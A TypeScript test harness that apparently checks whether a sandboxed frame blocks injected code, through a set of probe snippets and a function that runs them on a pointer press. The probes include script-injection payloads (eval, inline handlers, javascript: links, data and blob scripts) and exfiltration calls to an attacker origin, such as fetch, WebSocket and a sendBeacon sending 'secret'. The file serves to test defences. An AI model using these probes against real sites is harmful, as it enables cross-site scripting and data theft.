/**
 * Attempts by injected code in the frame's document: function bodies with the attacker's `origin`.
 * `ran(name)` reports a success.
 */
export const PROBES: Readonly<Record<string, string>> = {
  eval: `eval('ran("eval")')`,
  'new Function': `new Function('ran("new Function")')()`,
  'a timer of text': `setTimeout('ran("a timer of text")', 0)`,
  'an inline script': `const script = document.createElement('script')
    script.textContent = 'ran("an inline script")'
    document.head.append(script)`,
  'an inline handler': `const image = document.createElement('img')
    image.setAttribute('onerror', 'ran("an inline handler")')
    image.src = 'data:,'
    document.body.append(image)`,
  'markup with a handler': `document.body.insertAdjacentHTML('beforeend',
    '<img src="data:," onerror="ran(&quot;markup with a handler&quot;)">')`,
  innerHTML: `const box = document.createElement('div')
    document.body.append(box)
    box.innerHTML = '<b>ran</b>'
    ran('innerHTML')`,
  'document.write': `document.write('<b>ran</b>')
    ran('document.write')`,
  'a link that is code': `const link = document.createElement('a')
    link.href = 'javascript:ran("a link that is code")'
    document.body.append(link)
    link.click()`,
  WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
    ran('WebAssembly')`,
  'a script of data': `await import('data:text/javascript,ran("a script of data")')`,
  'a script of a blob': `const script = document.createElement('script')
    script.src = URL.createObjectURL(new Blob(['ran("a script of a blob")']))
    document.head.append(script)`,
  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob([''])))
    ran('a worker of a blob')`,
  'an own policy': `trustedTypes.createPolicy('evil', { createHTML: (html) => html })
    ran('an own policy')`,
  'an inline style': `const style = document.createElement('style')
    style.textContent = 'html { --ran: yes }'
    document.head.append(style)
    if (getComputedStyle(document.documentElement).getPropertyValue('--ran')) ran('an inline style')`,
  'a foreign script': `const script = document.createElement('script')
    script.src = origin + '/script'
    document.head.append(script)`,
  'a foreign module': `await import(origin + '/script-module')`,
  'a foreign style': `const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = origin + '/style'
    document.head.append(link)`,
  'a foreign iframe': `const iframe = document.createElement('iframe')
    iframe.src = origin + '/iframe'
    document.body.append(iframe)`,
  'a foreign object': `const object = document.createElement('object')
    object.data = origin + '/object'
    document.body.append(object)`,
  'a foreign embed': `const embed = document.createElement('embed')
    embed.src = origin + '/embed'
    document.body.append(embed)`,
  'a foreign base': `const base = document.createElement('base')
    base.href = origin + '/base/'
    document.head.append(base)
    if (document.baseURI.startsWith(origin)) ran('a foreign base')
    base.remove()`,
  fetch: `await fetch(origin + '/fetch', { mode: 'no-cors' })`,
  XMLHttpRequest: `const request = new XMLHttpRequest()
    request.open('GET', origin + '/xhr')
    request.send()`,
  sendBeacon: `navigator.sendBeacon(origin + '/beacon', 'secret')`,
  WebSocket: `new WebSocket(origin.replace('http', 'ws') + '/socket')`,
  EventSource: `new EventSource(origin + '/events')`,
  'an image': `new Image().src = origin + '/image'`,
  'a picture of a style': `document.body.style.backgroundImage = 'url(' + origin + '/background)'`,
  'a font': `await new FontFace('evil', 'url(' + origin + '/font)').load()`,
  'a sound': `new Audio(origin + '/audio').load()`,
  'a film': `const video = document.createElement('video')
    video.poster = origin + '/poster'
    video.src = origin + '/video'
    document.body.append(video)`,
  'a form': `const target = document.createElement('iframe')
    target.name = 'target'
    document.body.append(target)
    const form = document.createElement('form')
    form.method = 'post'
    form.target = 'target'
    form.action = origin + '/form'
    document.body.append(form)
    form.submit()`,
  'a ping of a link': `const link = document.createElement('a')
    link.href = '#'
    link.ping = origin + '/ping'
    document.body.append(link)
    link.click()`,
  prefetch: `const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = origin + '/prefetch'
    document.head.append(link)`,
  preload: `const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'image'
    link.href = origin + '/preload'
    document.head.append(link)`,
  'a manifest': `const link = document.createElement('link')
    link.rel = 'manifest'
    link.href = origin + '/manifest'
    document.head.append(link)`,
}

export const WORKER_PROBES: Readonly<Record<string, string>> = {
  'eval in the worker': `eval('ran("eval in the worker")')`,
  'new Function in the worker': `new Function('ran("new Function in the worker")')()`,
  'a foreign script in the worker': `importScripts(origin + '/script-worker')`,
  'a module of data in the worker': `await import('data:text/javascript,globalThis.ran("a module of data in the worker")')`,
  'fetch in the worker': `await fetch(origin + '/worker-fetch', { mode: 'no-cors' })`,
  'WebSocket in the worker': `new WebSocket(origin.replace('http', 'ws') + '/worker-socket')`,
  'a worker in the worker': `new Worker(origin + '/script-nested')
    ran('a worker in the worker')`,
}

/** Runs all probes on a press, and stores their effects in `window.carriedOut`. */
export function onPress(probes: Readonly<Record<string, string>>, origin: string): string {
  const all = Object.entries(probes).map(
    ([name, body]) => `[${JSON.stringify(name)}, async (origin, ran) => { ${body} }]`,
  )
  return `(() => {
    const carriedOut = globalThis.carriedOut = []
    const ran = globalThis.ran = (name) => void carriedOut.push(name)
    globalThis.tried = []
    const probes = [${all.join(',\n')}]
    globalThis.tryAll = async () => {
      for (const [name, probe] of probes) {
        await Promise.race([
          probe(${JSON.stringify(origin)}, ran).catch(() => {}),
          new Promise((resolve) => setTimeout(resolve, 300)),
        ])
        globalThis.tried.push(name)
      }
    }
    globalThis.document?.addEventListener('pointerdown', globalThis.tryAll, { once: true })
  })()`
}
